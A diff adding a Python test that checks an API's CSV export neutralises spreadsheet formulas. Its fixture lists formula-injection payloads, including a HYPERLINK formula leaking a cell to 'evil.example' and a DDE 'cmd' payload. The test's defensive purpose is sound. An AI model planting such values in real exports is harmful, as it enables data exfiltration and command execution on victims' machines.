@@ -7,6 +7,8 @@ another team's contact in the analytics, spreadsheet formulas in CSV exports, an
 holding the API's connections.
 """
 
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 
@@ -296,3 +298,49 @@ async def test_analytics_of_a_contact_of_another_team_is_404_like_an_unknown_one
         200,
     )
     assert other_team.json() == {"detail": "team 'billing' not found"}
+
+
+FORMULAS = {  # a contact id -> a name a spreadsheet would run
+    "c_f1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "c_f2": "+1+cmd|' /C calc'!A0",
+    "c_f3": "-2+3",
+    "c_f4": "@SUM(A1:A9)",
+    "c_f5": "\t=1+1",
+    "c_f6": "\r=1+1",
+}
+
+
+async def test_csv_export_cells_never_start_a_formula_and_a_bom_is_optional(settings):
+    async with Stack(settings) as stack:
+        story = Story()
+        evil_user = ("user", "u_evil", "=cmd|' /C calc'!A0")
+        added = [
+            story("contact.added", {"contact_id": c, "name": name, "source": "user"})
+            for c, name in FORMULAS.items()
+        ]
+        added.append(
+            story(
+                "contact.added",
+                {"contact_id": "c_by_evil", "name": "Plain Name", "source": "user"},
+                actor=evil_user,
+            )
+        )
+        await told(stack, settings, added)
+        async with stack.client(stack.token(WS)) as api:
+            export = "/v1/reports/contacts/logs/added/export"
+            plain = await api.get(export)
+            with_bom = await api.get(export, params={"bom": "true"})
+            log = (await api.get("/v1/reports/contacts/logs/added")).json()
+    assert plain.status_code == with_bom.status_code == 200
+    lines = list(csv.DictReader(io.StringIO(plain.text, newline="")))
+    names = {line["contact_id"]: line["contact_name"] for line in lines}
+    assert names == {
+        **{c: "'" + name for c, name in FORMULAS.items()},
+        "c_by_evil": "Plain Name",
+    }
+    users = {line["contact_id"]: line["user"] for line in lines}
+    assert users["c_by_evil"] == "'=cmd|' /C calc'!A0"
+    assert not plain.content.startswith(b"\xef\xbb\xbf")
+    assert with_bom.content == b"\xef\xbb\xbf" + plain.content
+    # the JSON log is data, not a spreadsheet: it keeps the names as they are
+    assert {r["contact_id"]: r["contact_name"] for r in log["rows"]}["c_f1"] == FORMULAS["c_f1"]
